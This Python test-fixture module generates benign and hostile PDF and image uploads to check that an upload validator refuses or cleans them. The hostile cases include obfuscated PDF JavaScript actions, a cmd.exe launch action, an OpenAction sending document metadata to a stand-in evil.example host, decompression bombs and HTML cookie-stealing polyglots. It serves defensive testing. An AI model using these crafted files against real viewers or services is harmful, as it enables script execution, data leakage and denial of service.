"""Uploads for tests: good PDFs and pictures, and the hostile files an upload must refuse or clean.

Every builder returns bytes. ``PDF_ATTACKS`` and ``IMAGE_ATTACKS`` list (id, bytes, message key) for a
file that must be refused; ``POLYGLOTS`` lists pictures with a payload hidden in them that must be
kept only as the re-encoded picture, without the payload. Reuse them wherever a file is uploaded.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import lru_cache

from PIL import Image
from pypdf import PdfWriter
from reportlab.lib.pagesizes import A4
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

from core.files.store import minimal_pdf

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
FAKE_TRAILER = b"\ntrailer\n<< /Size 2 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] %s>>"


# --- good files ------------------------------------------------------------------------------------

def jpeg(size: tuple[int, int] = (40, 30), color: tuple[int, int, int] = (200, 30, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, format="JPEG", **options)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30), mode: str = "RGBA") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (20, 120, 200, 128) if mode == "RGBA" else 7).save(out, format="PNG")
    return out.getvalue()


def reportlab_pdf(text: str = "学历证书", with_picture: bool = False) -> bytes:
    """A real one-page PDF the way the app writes them (reportlab), optionally with a JPEG on it."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1)
    pdf.drawString(72, 720, text.encode("ascii", "replace").decode())
    pdf.linkURL("https://example.org/verify", (72, 700, 200, 714))
    if with_picture:
        pdf.drawImage(ImageReader(io.BytesIO(jpeg((60, 60)))), 72, 500, 60, 60)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def pdf_from_objects(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table around the given object bodies (object 1 is the root)."""
    body = io.BytesIO()
    body.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(body.tell())
        body.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = body.tell()
    body.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
               + b"".join(b"%010d 00000 n \n" % o for o in offsets))
    body.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref))
    return body.getvalue()


def stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data, extra = zlib.compress(data), extra + b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf_with(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """Catalog (1), pages (2), one page (3), then ``more`` objects numbered from 4."""
    return pdf_from_objects(b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
                            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE % page_extra, *more)


def padded_pdf(size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes (an uncompressed stream fills it), stored as uploaded."""
    def build(pad: int) -> bytes:
        return pdf_with(b"", b"", stream(b"%" * pad))

    pad = max(0, size - 400)
    for _ in range(3):  # the lengths and offsets written in the PDF grow with the padding
        data = build(pad)
        pad += size - len(data)
    assert len(data) == size, f"no PDF of exactly {size} bytes"
    return data


def benign_actions_pdf() -> bytes:
    """Opens at page 1 (a destination) and has a web link: ordinary, accepted."""
    return pdf_with(b"/OpenAction [3 0 R /Fit] ", b"/Annots [4 0 R] ",
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 20] /A << /S /URI /URI (https://example.org) >> >>")


# --- hostile PDFs ----------------------------------------------------------------------------------

def html_with_pdf_head() -> bytes:
    return b"%PDF-1.4\n" + HTML + FAKE_TRAILER


def exe_with_pdf_head() -> bytes:
    return b"%PDF-1.4\n" + b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"PE\x00\x00" + FAKE_TRAILER


def javascript_names_pdf() -> bytes:
    return pdf_with(b"/Names << /JavaScript 4 0 R >> ", b"",
                    b"<< /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >>")


def open_action_javascript_pdf() -> bytes:
    return pdf_with(b"/OpenAction 4 0 R ", b"", b"<< /Type /Action /S /JavaScript /JS 5 0 R >>",
                    stream(b"app.launchURL('https://evil.example/'+this.info.Author)", compress=True))


def obfuscated_javascript_pdf() -> bytes:
    """``/J#53`` and ``/J#61vaScript`` are /JS and /JavaScript to a parser, and to no byte search."""
    return pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ")


def page_additional_actions_pdf() -> bytes:
    return pdf_with(b"", b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> ")


def launch_pdf() -> bytes:
    return pdf_with(b"", b"/Annots [4 0 R] ",
                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 20] /A << /S /L#61unch /F (cmd.exe) >> >>")


def open_action_uri_pdf() -> bytes:
    """Opening the document would visit a web address (a tracking beacon)."""
    return pdf_with(b"/OpenAction << /S /URI /URI (https://evil.example/beacon) >> ")


def submit_form_pdf() -> bytes:
    return pdf_with(b"", b"/Annots [4 0 R] ",
                    b"<< /Type /Annot /Subtype /Widget /Rect [0 0 50 20] /A << /S /SubmitForm /F (https://x) >> >>")


def xfa_pdf() -> bytes:
    return pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >> ", b"", stream(b"<xdp:xdp/>"))


def rich_media_pdf() -> bytes:
    return pdf_with(b"", b"/Annots [4 0 R] ", b"<< /Type /Annot /Subtype /RichM#65dia /Rect [0 0 50 20] >>")


def embedded_files_pdf() -> bytes:
    return pdf_with(b"/Names << /Emb#65ddedFiles << /Names [(a.exe) 4 0 R] >> >> ", b"",
                    b"<< /Type /Filespec /F (a.exe) /E#46 << /F 5 0 R >> >>",
                    stream(b"MZ\x90\x00", b" /Type /Emb#65ddedFile"))


def file_attachment_annotation_pdf() -> bytes:
    return pdf_with(b"", b"/Annots [4 0 R] ",
                    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>")


def plain_names_pdf() -> bytes:
    """The names spelt plainly, the way PDF writers put them: refused before any parsing."""
    return pdf_with(b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >> ")


@lru_cache(maxsize=4)
def deflate_bomb(megabytes: int = 200) -> bytes:
    """Zeros that inflate to ``megabytes`` MB, compressed chunk by chunk (never all in memory)."""
    packer, chunk = zlib.compressobj(9), bytes(1024 * 1024)
    return b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()


def bomb_pdf(megabytes: int = 200, referenced: bool = True) -> bytes:
    """A page whose content stream inflates to ``megabytes`` MB (or the same stream in no page at all)."""
    bomb = deflate_bomb(megabytes)
    return pdf_with(b"", b"/Contents 4 0 R " if referenced else b"",
                    b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream")


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = reportlab_pdf()
    return data[: len(data) // 2]


def broken_xref_pdf() -> bytes:
    """The trailer and xref are there, but the offsets point into nothing."""
    return pdf_with().replace(b"%010d 00000 n" % 15, b"%010d 00000 n" % 999, 1)


def pdf_then_zip() -> bytes:
    return reportlab_pdf() + zip_bytes()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", HTML)
    return out.getvalue()


PDF_ATTACKS = [
    ("html_pdf_head", html_with_pdf_head, "file.pdf_damaged"),
    ("exe_pdf_head", exe_with_pdf_head, "file.pdf_damaged"),
    ("truncated", truncated_pdf, "file.pdf_damaged"),
    ("broken_xref", broken_xref_pdf, "file.pdf_damaged"),
    ("pdf_then_zip", pdf_then_zip, "file.pdf_damaged"),
    ("javascript_plain", plain_names_pdf, "file.pdf_active"),
    ("javascript_names", javascript_names_pdf, "file.pdf_active"),
    ("open_action_js", open_action_javascript_pdf, "file.pdf_active"),
    ("obfuscated_js", obfuscated_javascript_pdf, "file.pdf_active"),
    ("additional_actions", page_additional_actions_pdf, "file.pdf_active"),
    ("launch", launch_pdf, "file.pdf_active"),
    ("open_action_uri", open_action_uri_pdf, "file.pdf_active"),
    ("submit_form", submit_form_pdf, "file.pdf_active"),
    ("xfa", xfa_pdf, "file.pdf_active"),
    ("rich_media", rich_media_pdf, "file.pdf_active"),
    ("embedded_files", embedded_files_pdf, "file.pdf_embedded"),
    ("file_attachment", file_attachment_annotation_pdf, "file.pdf_embedded"),
    ("encrypted", encrypted_pdf, "file.pdf_encrypted"),
    ("bomb_200mb", bomb_pdf, "file.too_large_expanded"),
    ("bomb_unreferenced", lambda: bomb_pdf(100, referenced=False), "file.too_large_expanded"),
]


# --- hostile pictures ------------------------------------------------------------------------------

def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header claiming ``width`` x ``height`` grey pixels, with almost no data behind it."""
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(bytes(width + 1))) + _png_chunk(b"IEND", b""))


def truncated_jpeg() -> bytes:
    data = jpeg((300, 200))
    return data[: len(data) // 2]


def fake_jpeg() -> bytes:
    """Magic bytes at both ends, nothing a decoder can read between them."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + HTML + b"\xff\xd9"


def bad_crc_png() -> bytes:
    data = bytearray(png())
    data[29] ^= 0xFF  # IHDR's CRC
    return bytes(data)


IMAGE_ATTACKS = [
    ("fake_jpeg", fake_jpeg, "file.image_damaged"),
    ("truncated_jpeg", truncated_jpeg, "file.image_damaged"),
    ("bad_crc_png", bad_crc_png, "file.image_damaged"),
    ("png_bomb_over_pillow", lambda: png_claiming(30000, 30000), "file.too_large_expanded"),
    ("png_bomb_over_ours", lambda: png_claiming(8000, 8000), "file.too_large_expanded"),
]


def jpeg_with_comment(payload: bytes) -> bytes:
    """A JPEG with ``payload`` in a COM segment (a classic JPEG/HTML polyglot)."""
    data = jpeg()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


POLYGLOTS = [
    ("jpeg_then_html", lambda: jpeg() + HTML, HTML),
    ("jpeg_then_zip", lambda: jpeg() + zip_bytes(), b"evil.html"),
    ("jpeg_then_pdf", lambda: jpeg() + minimal_pdf("x"), b"%PDF-"),
    ("jpeg_comment_html", lambda: jpeg_with_comment(HTML), HTML),
    ("png_then_html", lambda: png() + HTML, HTML),
    ("png_then_zip", lambda: png() + zip_bytes(), b"evil.html"),
    ("png_text_chunk", lambda: png()[:-12] + _png_chunk(b"tEXt", b"Comment\x00" + HTML) + png()[-12:], HTML),
]
